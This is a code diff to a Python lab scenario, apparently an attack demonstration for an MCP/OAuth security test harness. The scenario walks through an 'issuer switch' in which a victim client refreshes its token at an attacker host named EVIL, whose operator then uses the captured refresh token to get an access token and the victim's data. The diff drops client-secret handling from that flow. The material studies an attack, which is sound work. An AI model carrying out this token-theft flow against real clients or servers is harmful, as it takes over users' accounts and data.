@@ -88,7 +88,6 @@ async def issuer_switch(lab: HttpLab, plot: Plot) -> None:
     assert grant.token is not None
     assert grant.token.refresh_token is not None
     secrets = {"client_id": grant.client.client_id, "refresh_token": grant.token.refresh_token}
-    secrets["client_secret"] = grant.client.client_secret or ""
     plot.step(f"The victim's client is authorized: registered at {grant.issuer}, with a refresh token of theirs.")
     with lab.network.instead(_TakenOver):
         plot.step(
@@ -107,9 +106,8 @@ async def issuer_switch(lab: HttpLab, plot: Plot) -> None:
         raise Refused(f"Nothing that {grant.issuer} has given went to {EVIL}.")
     plot.step(f"The client refreshes where the MCP server says: at {EVIL}/token.")
     thief = ByHand(lab, ATTACKER, client_id=evil.told["client_id"])
-    stolen = await thief.refresh(evil.told["refresh_token"], client_secret=evil.told["client_secret"])
+    stolen = await thief.refresh(evil.told["refresh_token"])
     plot.step("The attacker uses what arrived at the real server.")
-    plot.got("client secret", secrets["client_secret"])
     plot.got("refresh token", secrets["refresh_token"])
     plot.got("access token", stolen["access_token"])
     plot.learned("data of", await whose_data(lab, stolen["access_token"]))
